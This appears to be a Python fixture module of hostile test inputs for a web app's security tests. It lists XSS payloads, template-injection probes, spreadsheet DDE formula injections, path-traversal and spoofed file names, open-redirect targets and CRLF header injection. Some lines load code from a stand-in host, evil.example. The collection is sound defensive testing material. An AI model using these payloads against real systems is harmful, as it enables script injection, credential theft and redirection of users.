"""Hostile strings: XSS payloads for text fields, hostile file names, formula starters and redirect targets.

Every payload carries the marker ``pwn`` in the code it would run, so a checker can tell an attack that got
through from the page's own markup. ``TEMPLATE_PROBES`` would render as 4011 if a template evaluated them.
"""

from __future__ import annotations

XSS_PAYLOADS: tuple[str, ...] = (
    # script elements, plain and disguised
    "<script>alert('pwn1')</script>",
    "<SCRIPT SRC=//evil.example/pwn2.js></SCRIPT>",
    "<scr<script>ipt>alert('pwn3')</scr</script>ipt>",
    "<script\x0c>alert('pwn4')</script>",
    "</title><script>alert('pwn5')</script>",
    "</textarea><script>alert('pwn6')</script>",
    "</script><script>alert('pwn7')</script>",
    "<!--><script>alert('pwn8')</script>-->",
    # event handlers
    "<img src=x onerror=alert('pwn9')>",
    "<svg onload=alert('pwn10')>",
    "<body onload=alert('pwn11')>",
    "<details open ontoggle=alert('pwn12')>",
    "<input autofocus onfocus=alert('pwn13')>",
    "<video><source onerror=alert('pwn14')></video>",
    "<marquee onstart=alert('pwn15')>x</marquee>",
    # attribute breakouts (double, single and unquoted contexts)
    '" onmouseover="alert(\'pwn16\')" x="',
    "' onmouseover='alert(`pwn17`)' x='",
    "\"><img src=x onerror=alert('pwn18')>",
    "'><svg/onload=alert('pwn19')>",
    " autofocus onfocus=alert('pwn20') ",
    # URLs with dangerous schemes
    "<a href=\"javascript:alert('pwn21')\">klik</a>",
    "<a href=\"&#x6A;avascript:alert('pwn22')\">klik</a>",
    "<a href=\"jav&#x09;ascript:alert('pwn23')\">klik</a>",
    "javascript:alert('pwn24')",
    "JaVaScRiPt:alert('pwn25')",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgncHduMjYnKTwvc2NyaXB0Pg==",
    "<iframe src=\"data:text/html,<script>alert('pwn27')</script>\"></iframe>",
    "<object data=\"javascript:alert('pwn28')\"></object>",
    "<form action=\"javascript:alert('pwn29')\"><button>x</button></form>",
    "<button formaction=\"javascript:alert('pwn30')\">x</button>",
    # SVG and MathML
    "<svg><script>alert('pwn31')</script></svg>",
    "<svg><a xlink:href=\"javascript:alert('pwn32')\"><text>x</text></a></svg>",
    "<svg><animate onbegin=alert('pwn33') attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('pwn34')>",
    # Markdown link and image tricks
    "[klik](javascript:alert('pwn35'))",
    "[klik]( JAVASCRIPT:alert('pwn36') )",
    "![billede](x\" onerror=\"alert('pwn37'))",
    "[ref]\n\n[ref]: javascript:alert('pwn38')",
    "<javascript:alert('pwn39')>",
    "[a](<javascript:alert('pwn40')>)",
    # unicode tricks
    "<scr\u0131pt>alert('pwn41')</scr\u0131pt>",
    "\u202e<img src=x onerror=alert('pwn42')>\u202c",
    "\uff1cscript\uff1ealert('pwn43')\uff1c/script\uff1e",
    "<img src=x o\u200bnerror=alert('pwn44')>",
    "\ufeff<svg onload=alert('pwn45')>",
    # CSS, base, meta refresh
    "<div style=\"background:url(javascript:alert('pwn46'))\">x</div>",
    '<base href="https://evil.example/pwn47/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(\'pwn48\')">',
    "<style>@import 'https://evil.example/pwn49.css';</style>",
    '<link rel="stylesheet" href="https://evil.example/pwn50.css">',
    # template injection
    "{{ 1337*3 }} pwn51",
    "{% raw %}{{ 1337*3 }}{% endraw %} pwn52 ${1337*3} #{1337*3}",
    "{{ config.SECRET_KEY }} {{ self.__init__.__globals__ }} pwn53",
    # formula injection (harmless in HTML, checked in CSV/XLSX)
    '=HYPERLINK("https://evil.example/pwn54","klik")',
    "+cmd|' /C calc'!A0 pwn55",
    "-2+3+cmd|' /C calc'!A0 pwn56",
    "@SUM(1+1)*cmd|' /C calc'!A0 pwn57",
    "\t=1+1 pwn58",
)

FILE_NAMES: tuple[str, ...] = (
    "<img src=x onerror=alert('pwnf1')>.png",
    '"><script>alert(`pwnf2`)</script>.png',
    "../../../../etc/passwd.png",
    "..\\..\\windows\\win.ini.png",
    "javascript:alert('pwnf3').png",
    '=HYPERLINK("https://evil.example").png',
    "nul\x00byte.png",
    "\u202egnp.exe",
    "a" * 300 + ".png",
    "{{ 1337*3 }}.png",
)

TEMPLATE_EVALUATED = "4011"  # 1337*3, if any template ever evaluated user text

FORMULA_STARTERS = ("=", "+", "-", "@", "\t", "\r")

REDIRECT_TARGETS: tuple[str, ...] = (
    "//evil.example",
    "//evil.example/%2F..",
    "https://evil.example",
    "http://evil.example/",
    "HTTPS://evil.example",
    "/\\evil.example",
    "\\\\evil.example",
    "/\\/evil.example",
    "/\t/evil.example",
    "/\n/evil.example",
    "/%09/evil.example",
    "///evil.example",
    " //evil.example",
    "javascript:alert(1)",
    "JavaScript:alert(1)//",
    "data:text/html,<script>alert(1)</script>",
    "https:evil.example",
    "http:/evil.example",
    "evil.example",
    "@evil.example",
    "/@evil.example",  # harmless path, kept on site
    "\u3002evil.example",
    "/x\r\nSet-Cookie: pwn=1",
    "/x\x00y",
    "/x\u2028y\u00e6\U0001f600",
)


def payload_for(index: int, limit: int | None = None) -> str:
    """The payload at ``index`` (wrapping), cut to a column's length."""
    payload = XSS_PAYLOADS[index % len(XSS_PAYLOADS)]
    return payload[:limit] if limit else payload


def is_formula(cell: str) -> bool:
    """Whether a spreadsheet would treat the text as a formula."""
    return cell.startswith(FORMULA_STARTERS)
